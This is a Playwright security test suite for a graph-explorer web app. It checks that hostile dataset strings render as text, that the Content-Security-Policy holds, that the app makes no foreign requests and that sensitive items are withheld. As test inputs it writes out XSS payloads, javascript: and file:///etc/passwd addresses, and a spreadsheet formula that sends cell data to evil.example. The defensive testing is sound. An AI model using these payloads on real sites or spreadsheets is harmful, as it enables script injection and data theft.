/**
 * Hostile data runs nothing, and private data stays private.
 * - Every string from a dataset is shown as text; only http(s) links become links, with rel="noopener noreferrer".
 * - The Content-Security-Policy forbids inline scripts and eval, and the app (Cytoscape, MiniSearch, Svelte,
 *   the parse Worker, the exporters) works under it without a single violation.
 * - The app asks nothing of any other origin, and keeps working offline once loaded.
 * - Items marked sensitive are never shown, searched, exported or kept in storage; their number is shown.
 */
import { expect, test } from '@playwright/test';
import type { BrowserContext, Download, Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { drawnNodeCount, openApp, waitForGraph } from './helpers.ts';

const DIR = fileURLToPath(new URL('../fixtures/broken/', import.meta.url));
const HOSTILE = join(DIR, 'valid/hostile-strings.json');
const SENSITIVE = join(DIR, 'valid/sensitive.json');
const SECRETS = (JSON.parse(readFileSync(join(DIR, 'manifest.json'), 'utf8')) as { secrets: string[] }).secrets;
const FAKE_HOST = 'https://datasets.example';

/** Serves a fixture on the app's own origin, as a dataset published next to the app would be. */
async function serveLocal(page: Page, name: string, file: string): Promise<void> {
  await page.route((url) => url.pathname === `/${name}`, (route) => route.fulfill({ path: file, contentType: 'application/json' }));
}

/** Records dialogs (alert, confirm, prompt) that anything tries to open. */
function watchDialogs(page: Page): string[] {
  const fired: string[] = [];
  page.on('dialog', (d) => {
    fired.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  return fired;
}

/** Records Content-Security-Policy violations, from the page's own event and from the console. */
async function watchCsp(context: BrowserContext, page: Page): Promise<() => Promise<string[]>> {
  await context.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__csp.push(`${e.violatedDirective} blocked ${e.blockedURI || 'inline'} (${e.sourceFile}:${e.lineNumber})`);
    });
  });
  const fromConsole: string[] = [];
  page.on('console', (m) => {
    if (/Content.Security.Policy|Refused to (execute|load|evaluate|apply|connect|create)/i.test(m.text())) fromConsole.push(m.text());
  });
  return async () => [...fromConsole, ...(await page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []))];
}

async function openDataMenu(page: Page) {
  await page.getByRole('button', { name: 'Data', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Data' });
  await expect(dialog).toBeVisible();
  return dialog;
}

async function openFileFromMenu(page: Page, path: string): Promise<void> {
  const dialog = await openDataMenu(page);
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), dialog.getByRole('button', { name: /^Open files?/ }).click()]);
  await chooser.setFiles(path);
}

/** Every element and attribute name of an XML document (and the attributes' values). */
function xmlNames(xml: string): { elements: string[]; attributes: { name: string; value: string }[] } {
  const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@_', preserveOrder: true }).parse(xml) as unknown;
  const elements: string[] = [];
  const attributes: { name: string; value: string }[] = [];
  const walk = (node: unknown): void => {
    if (Array.isArray(node)) node.forEach(walk);
    else if (node && typeof node === 'object') {
      for (const [k, v] of Object.entries(node)) {
        if (k === ':@') for (const [a, value] of Object.entries(v as Record<string, unknown>)) attributes.push({ name: a.replace(/^@_/, ''), value: String(value) });
        else if (k !== '#text') {
          elements.push(k);
          walk(v);
        }
      }
    }
  };
  walk(doc);
  return { elements, attributes };
}

async function readDownload(d: Download): Promise<string> {
  return readFileSync(await d.path(), 'utf8');
}

/** Every export the app offers, as text: the graph as SVG, and the dataset in each format of the Data menu. */
async function allExports(page: Page): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  await page.getByRole('tab', { name: 'Graph' }).click();
  await waitForGraph(page);
  const [svg] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save view as SVG' }).click()]);
  out.svg = await readDownload(svg);
  const dialog = await openDataMenu(page);
  const values = await dialog.locator('input[name="export-format"]').evaluateAll((els) => els.map((e) => (e as HTMLInputElement).value));
  expect(values.length, 'the Data menu offers exports').toBeGreaterThan(0);
  for (const value of values) {
    await dialog.locator(`input[name="export-format"][value="${value}"]`).check();
    const buttons = dialog.getByRole('button', { name: /^Download / });
    const n = await buttons.count();
    for (let i = 0; i < n; i++) {
      const [d] = await Promise.all([page.waitForEvent('download'), buttons.nth(i).click()]);
      out[`${value}:${d.suggestedFilename()}`] = await readDownload(d);
    }
  }
  await dialog.getByRole('button', { name: 'Close' }).click();
  return out;
}

test.describe('hostile strings are shown as text and run nothing', () => {
  test('names, descriptions, attributes and titles with HTML and script appear literally, and no dialog opens', async ({ page }) => {
    const dialogs = watchDialogs(page);
    await serveLocal(page, 'hostile.json', HOSTILE);
    await page.goto('/?data=/hostile.json&sel=org-alpha');
    await expect(page.getByTestId('dataset-title')).toHaveText('Hostile <img src=x onerror=alert("title")> dataset');
    const details = page.getByRole('complementary', { name: 'Details' });
    await expect(page.locator('#details-heading')).toHaveText('<img src=x onerror=alert(1)>');
    await expect(details).toContainText('<script>alert(2)</script>');
    await expect(details).toContainText('<b>bold?</b> <a href="javascript:alert(3)">click me</a>');

    // A relation's attributes are text too.
    await page.getByRole('button', { name: /^Evidence: / }).first().click();
    await expect(details).toContainText('<img src=x onerror=alert(8)>');
    await expect(details).toContainText('<u>co-chaired</u>');

    // Search results and the list view show the same names as text.
    const search = page.getByRole('combobox', { name: 'Search' });
    await search.fill('img');
    await expect(page.getByRole('option').filter({ hasText: '<img src=x onerror=alert(1)>' }).first()).toBeVisible();
    await search.fill('');
    await page.getByRole('tab', { name: 'List' }).click();
    const list = page.getByRole('region', { name: 'List view' });
    await expect(list).toContainText('Summit <style>body{display:none}</style>');
    await expect(list).toContainText('"><svg/onload=alert(6)>{@html x}');
    await expect(list).toContainText('=HYPERLINK("https://evil.example/?leak="&A1,"Click me")');
    await page.getByRole('button', { name: /^Summit <style>/ }).first().click();
    await expect(details).toContainText('<marquee>Bangkok</marquee>');

    // No element came from the data: no image, frame, SVG or marquee, no event-handler attribute, the page is still visible.
    const injected = await page.evaluate(() => ({
      elements: document.querySelectorAll('img, iframe, marquee, svg[onload], script:not([src]), style:not([data-svelte]):not([id])').length,
      handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length,
      hidden: getComputedStyle(document.body).display,
      polluted: ({} as Record<string, unknown>).polluted,
    }));
    expect(injected.elements).toBe(0);
    expect(injected.handlers).toBe(0);
    expect(injected.hidden).not.toBe('none');
    expect(dialogs).toEqual([]);
  });

  test('links open only for http and https, in a new tab with rel="noopener noreferrer"', async ({ page }) => {
    const dialogs = watchDialogs(page);
    await serveLocal(page, 'hostile.json', HOSTILE);
    await page.goto('/?data=/hostile.json&sel=org-alpha');
    const details = page.getByRole('complementary', { name: 'Details' });
    await expect(page.locator('#details-heading')).toHaveText('<img src=x onerror=alert(1)>');
    // The two safe sources are links; the five unsafe ones are plain titles.
    await expect(details.getByRole('link', { name: 'Safe https source' })).toHaveAttribute('href', 'https://example.org/report?a=1&b=<x>');
    await expect(details.getByRole('link', { name: 'Safe http source' })).toHaveAttribute('href', 'http://example.org/post');
    for (const title of ['Report with a javascript: link', 'Post with a data: link', 'Post with a mixed-case JaVaScRiPt: link', 'Post with a vbscript: link', 'Post with a protocol-relative link']) {
      await expect(details.getByText(title)).toBeVisible();
      await expect(details.getByRole('link', { name: title })).toHaveCount(0);
    }
    // Every link on the page: http(s) only; those leaving the app open in a new tab without opener or referrer.
    const links = await page.evaluate(() => [...document.querySelectorAll('a[href]')].map((a) => ({
      href: (a as HTMLAnchorElement).href, protocol: (a as HTMLAnchorElement).protocol, rel: a.getAttribute('rel') ?? '', target: a.getAttribute('target') ?? '', external: (a as HTMLAnchorElement).origin !== location.origin,
    })));
    expect(links.length).toBeGreaterThanOrEqual(2);
    for (const l of links) {
      expect(['http:', 'https:'], l.href).toContain(l.protocol);
      if (l.external) {
        expect(l.rel.split(/\s+/), l.href).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
        expect(l.target, l.href).toBe('_blank');
      }
    }
    expect(dialogs).toEqual([]);
  });

  test('a dataset address that is not http or https is refused, in the link and in the Data menu', async ({ page }) => {
    const dialogs = watchDialogs(page);
    for (const bad of ['javascript:alert(1)', 'data:application/json,{"format":"ct-explorer-dataset"}', 'file:///etc/passwd']) {
      await page.goto(`/?data=${encodeURIComponent(bad)}`);
      await expect(page.getByRole('alert').filter({ hasText: 'could not be opened' })).toContainText('Only http and https addresses can be opened');
    }
    await openApp(page);
    const dialog = await openDataMenu(page);
    await dialog.getByRole('textbox', { name: /address/i }).fill('javascript:alert(1)');
    await dialog.getByRole('button', { name: 'Open address' }).click();
    await expect(dialog.getByRole('alert')).toContainText('Only http and https addresses can be opened');
    expect(dialogs).toEqual([]);
  });

  test('exports carry hostile names as text: the SVG has no markup from the data, the XML formats parse, CSV cells cannot run as formulas', async ({ page }) => {
    test.setTimeout(90_000);
    const dialogs = watchDialogs(page);
    await serveLocal(page, 'hostile.json', HOSTILE);
    await page.goto('/?data=/hostile.json');
    await expect(page.getByTestId('dataset-title')).toContainText('Hostile');
    const files = await allExports(page);
    // SVG: well-formed XML; the names are text in it, and no element or attribute came from them.
    expect(XMLValidator.validate(files.svg!)).toBe(true);
    const { elements, attributes } = xmlNames(files.svg!);
    expect(elements.filter((e) => /^(script|img|iframe|foreignObject|style|a|image|use)$/i.test(e))).toEqual([]);
    expect(attributes.filter((a) => /^on/i.test(a.name) || /^\s*(javascript|data|vbscript):/i.test(a.value))).toEqual([]);
    expect(files.svg).toContain('&lt;img src=x onerror=alert(1)&gt;');
    for (const [name, text] of Object.entries(files)) {
      if (/\.(gexf|graphml)$/.test(name)) {
        expect(XMLValidator.validate(text), name).toBe(true);
        const doc = new XMLParser({ ignoreAttributes: false }).parse(text) as unknown;
        expect(JSON.stringify(doc), name).toContain('<img src=x onerror=alert(1)>');
      }
      if (name.endsWith('.csv')) {
        // No cell starts with a formula character unless neutralised with a leading quote.
        const cells = text.split(/\r?\n/).flatMap((line) => line.split(',')).map((c) => c.replace(/^"/, ''));
        expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), name).toEqual([]);
      }
      if (/\.(json|cyjs)$/.test(name)) expect(() => JSON.parse(text), name).not.toThrow();
    }
    expect(dialogs).toEqual([]);
  });
});

test.describe('Content-Security-Policy', () => {
  test('the policy forbids inline scripts, eval, plugins and foreign bases, and the page has no inline script', async ({ page, request }) => {
    await page.goto('/');
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toBeTruthy();
    const directives = new Map(csp!.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k!, v]));
    const scripts = directives.get('script-src') ?? directives.get('default-src')!;
    expect(scripts).not.toContain("'unsafe-inline'");
    expect(scripts).not.toContain("'unsafe-eval'");
    expect(scripts).not.toContain("'wasm-unsafe-eval'");
    expect(scripts.some((s) => /^(https?:|\*|data:|blob:)/.test(s))).toBe(false);
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'self'"]);
    expect(csp).not.toContain('unsafe-eval');
    // The served page: every script is a file of the app's own.
    const html = await (await request.get('/')).text();
    for (const tag of html.match(/<script\b[^>]*>[\s\S]*?<\/script>/gi) ?? []) {
      expect(tag, 'inline script').toMatch(/\bsrc=/);
      expect(tag.replace(/<script\b[^>]*>/i, '').replace(/<\/script>/i, '').trim()).toBe('');
    }
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  });

  test('the policy is enforced: an injected inline script and eval are blocked', async ({ page, context }) => {
    const violations = await watchCsp(context, page);
    await openApp(page);
    const result = await page.evaluate(() => new Promise<Record<string, boolean>>((resolve) => {
      const w = window as unknown as { __ran?: boolean; __clicked?: boolean };
      const s = document.createElement('script');
      s.textContent = 'window.__ran = true';
      document.body.append(s);
      const b = document.createElement('button');
      b.setAttribute('onclick', 'window.__clicked = true');
      document.body.append(b);
      b.click();
      b.remove();
      // Code run by the test tool itself may evaluate strings; code run by the page may not. A timer callback is page code.
      setTimeout(() => {
        const tryRun = (f: () => unknown) => {
          try {
            return f() === true;
          } catch {
            return false;
          }
        };
        resolve({
          inline: w.__ran === true,
          handler: w.__clicked === true,
          eval: tryRun(() => (0, eval)('true')),
          Function: tryRun(() => new Function('return true')()),
        });
      });
    }));
    expect(result).toEqual({ inline: false, handler: false, eval: false, Function: false });
    await expect.poll(async () => (await violations()).length).toBeGreaterThan(0);
  });

  test('graph, layouts, search, list, details, filters, the Data menu, file loading and every export run with no violation', async ({ page, context }) => {
    test.setTimeout(120_000);
    const violations = await watchCsp(context, page);
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await openApp(page);
    for (const layout of ['concentric', 'hierarchy', 'country', 'time', 'force']) {
      await page.getByRole('combobox', { name: 'Layout' }).selectOption(layout);
      await expect(page.locator('.canvas')).toHaveAttribute('data-layout', layout);
      await waitForGraph(page);
    }
    const search = page.getByRole('combobox', { name: 'Search' });
    await search.fill('commit');
    await expect(page.getByRole('option').first()).toBeVisible();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await expect(page.locator('#details-heading')).not.toHaveText('Details');
    await page.getByRole('button', { name: /^Topics: / }).click();
    await page.getByRole('tab', { name: 'List' }).click();
    await expect(page.getByRole('region', { name: 'List view' })).toBeVisible();
    await page.getByRole('tab', { name: 'Graph' }).click();
    await waitForGraph(page);
    const [png] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save view as PNG' }).click()]);
    expect((await readDownload(png)).length).toBeGreaterThan(100);
    // A file big enough to be parsed in the Worker.
    await openFileFromMenu(page, join(DIR, 'deep-nesting.json'));
    await expect(page.getByRole('alert').filter({ hasText: 'could not be opened' })).toBeVisible();
    await openFileFromMenu(page, HOSTILE);
    await expect(page.getByTestId('dataset-title')).toContainText('Hostile');
    await allExports(page);
    expect(errors).toEqual([]);
    expect(await violations()).toEqual([]);
  });
});

test.describe('no request leaves the app, and it works offline', () => {
  test('every request goes to the app\'s own origin, except the dataset address the user asked for', async ({ page, context, baseURL }) => {
    test.setTimeout(120_000);
    const requests: string[] = [];
    context.on('request', (r) => requests.push(r.url()));
    await page.route(`${FAKE_HOST}/**`, (route) => route.fulfill({ path: HOSTILE, headers: { 'access-control-allow-origin': '*', 'content-type': 'application/json' } }));
    await openApp(page);
    await page.getByRole('combobox', { name: 'Search' }).fill('trafficking');
    await expect(page.getByRole('option').first()).toBeVisible();
    await page.getByRole('combobox', { name: 'Search' }).fill('');
    for (const layout of ['concentric', 'time', 'force']) {
      await page.getByRole('combobox', { name: 'Layout' }).selectOption(layout);
      await waitForGraph(page);
    }
    await page.getByRole('tab', { name: 'List' }).click();
    await page.getByRole('region', { name: 'List view' }).getByRole('button').first().click();
    await page.getByRole('tab', { name: 'Graph' }).click();
    await waitForGraph(page);
    await openFileFromMenu(page, SENSITIVE);
    await expect(page.getByTestId('dataset-title')).toHaveText('Fixture with sensitive items');
    const dialog = await openDataMenu(page);
    await dialog.getByRole('textbox', { name: /address/i }).fill(`${FAKE_HOST}/asked-for.json`);
    await dialog.getByRole('button', { name: 'Open address' }).click();
    await expect(page.getByTestId('dataset-title')).toContainText('Hostile');
    await allExports(page);
    const origin = new URL(baseURL!).origin;
    const foreign = requests.filter((u) => !u.startsWith(`${origin}/`) && !/^(blob|data):/.test(u) && u !== `${FAKE_HOST}/asked-for.json`);
    expect(foreign).toEqual([]);
    expect(requests).toContain(`${FAKE_HOST}/asked-for.json`);
  });

  test('once loaded, it keeps working offline: search, layouts, list, details, filters, files and exports', async ({ page, context }) => {
    test.setTimeout(120_000);
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await openApp(page);
    // Once the parts loaded on first use have been fetched, after the first view.
    await expect(page.locator('html[data-offline-ready]')).toHaveCount(1, { timeout: 30_000 });
    await context.setOffline(true);
    const search = page.getByRole('combobox', { name: 'Search' });
    await search.fill('UN-ACT');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await expect(page.locator('#details-heading')).toHaveText('UN-ACT');
    await page.getByRole('complementary', { name: 'Details' }).getByRole('button', { name: '1 step' }).click();
    await waitForGraph(page);
    expect(await drawnNodeCount(page)).toBeGreaterThan(1);
    await page.getByRole('combobox', { name: 'Layout' }).selectOption('time');
    await waitForGraph(page);
    await page.getByRole('button', { name: /^Events: / }).click();
    await page.getByRole('tab', { name: 'List' }).click();
    await expect(page.getByRole('region', { name: 'List view' })).toBeVisible();
    // The analysis tabs and panels, loaded on first use, open offline too.
    for (const [tab, heading] of [['Collaboration', 'Who worked with whom'], ['Timeline', 'Events, in order'], ['Measures', 'Who is central, who bridges']]) {
      await page.getByRole('tab', { name: tab }).click();
      await expect(page.getByRole('heading', { name: heading })).toBeVisible();
    }
    for (const [side, heading] of [['Connect A to B', 'How is it connected?'], ['Who should meet', /^Who should meet/]] as const) {
      await page.getByRole('button', { name: side }).click();
      await expect(page.getByRole('heading', { name: heading })).toBeVisible();
    }
    await page.getByRole('tab', { name: 'Graph' }).click();
    // Files open offline (parsing runs in the page or its Worker, with no download).
    await openFileFromMenu(page, SENSITIVE);
    await expect(page.getByTestId('dataset-title')).toHaveText('Fixture with sensitive items');
    await allExports(page);
    expect(errors).toEqual([]);
    await context.setOffline(false);
  });
});

test.describe('sensitive items', () => {
  async function expectNoSecret(page: Page, where: string, text: string): Promise<void> {
    for (const s of SECRETS) expect(text.includes(s), `"${s}" found in ${where}`).toBe(false);
  }

  test('are never shown, searched, exported or kept, and the page says how many were withheld', async ({ page }) => {
    test.setTimeout(120_000);
    await serveLocal(page, 'sensitive.json', SENSITIVE);
    await page.goto('/?data=/sensitive.json&sel=person-worker');
    await expect(page.getByTestId('dataset-title')).toHaveText('Fixture with sensitive items');
    // 2 entities (the survivor, the place); 2 relations (the survivor's, the one marked); 5 fields (4 listed, and the event's place).
    await expect(page.getByRole('note')).toHaveText(/Withheld as sensitive: 2 entities, 2 relations, 5 fields\./);
    await expect(page.locator('#details-heading')).toHaveText('Outreach Worker');
    const details = page.getByRole('complementary', { name: 'Details' });

    // The event held at a withheld place shows its place text but not the withheld country.
    await page.getByRole('tab', { name: 'List' }).click();
    await page.getByRole('region', { name: 'List view' }).getByRole('button', { name: 'Shelter visit', exact: true }).click();
    await expect(page.locator('#details-heading')).toHaveText('Shelter visit');
    await expect(details).toContainText('undisclosed');

    // Nowhere in the page: text, attributes (aria-labels, titles), the graph's data, the address, the app's data.
    await expectNoSecret(page, 'the page', await page.evaluate(() => document.documentElement.outerHTML));
    await expectNoSecret(page, 'the graph', await page.evaluate(() => JSON.stringify((window as unknown as { __cy: { json(): unknown } }).__cy.json())));
    await expectNoSecret(page, 'the loaded dataset', await page.evaluate(() => JSON.stringify((window as unknown as { __app: { dataset: unknown } }).__app.dataset)));
    await expectNoSecret(page, 'the address', page.url());

    // Not searchable.
    await page.getByRole('tab', { name: 'Graph' }).click();
    const search = page.getByRole('combobox', { name: 'Search' });
    for (const q of ['SECRET', 'survivor', 'SECRET-PHONE-CHARLIE', 'zulu', 'secretzulu', 'DELTA']) {
      await search.fill(q);
      await page.waitForTimeout(300);
      // Nothing withheld is found (close matches among the visible entities may be offered).
      // (The query itself is echoed back, as typed: that is not a leak.)
      await expectNoSecret(page, `the results for "${q}"`, (await page.evaluate(() => document.documentElement.outerHTML)).split(q).join(''));
      await expect(page.getByRole('option').filter({ hasText: /Outreach Worker|Shelter visit/ }), q).toHaveCount(0);
    }
    await search.fill('');

    // Not exported, in any format.
    for (const [name, text] of Object.entries(await allExports(page))) await expectNoSecret(page, `the export ${name}`, text);
  });

  test('opened from a file, they are not kept in the browser\'s storage either', async ({ page }) => {
    await openApp(page);
    await openFileFromMenu(page, SENSITIVE);
    await expect(page.getByTestId('dataset-title')).toHaveText('Fixture with sensitive items');
    await expect(page.getByRole('note')).toContainText('Withheld as sensitive');
    /** Everything the page keeps in IndexedDB, as text (stored files included). */
    const stored = () => page.evaluate(async () => {
      const texts: string[] = [];
      for (const info of await indexedDB.databases()) {
        if (!info.name) continue;
        const db = await new Promise<IDBDatabase>((res, rej) => {
          const r = indexedDB.open(info.name!);
          r.onsuccess = () => res(r.result);
          r.onerror = () => rej(r.error);
        });
        for (const store of [...db.objectStoreNames]) {
          const values = await new Promise<unknown[]>((res) => {
            const r = db.transaction(store).objectStore(store).getAll();
            r.onsuccess = () => res(r.result);
          });
          for (const v of values) {
            texts.push(JSON.stringify(v));
            for (const f of (v as { files?: { blob?: Blob }[] }).files ?? []) if (f.blob) texts.push(await f.blob.text());
          }
        }
        db.close();
      }
      return texts.join('\n');
    });
    // Wait until the dataset has been kept, then look for the secrets in what was kept.
    await expect.poll(stored, { timeout: 10_000 }).toContain('Outreach Worker');
    await expectNoSecret(page, 'IndexedDB', await stored());
  });
});
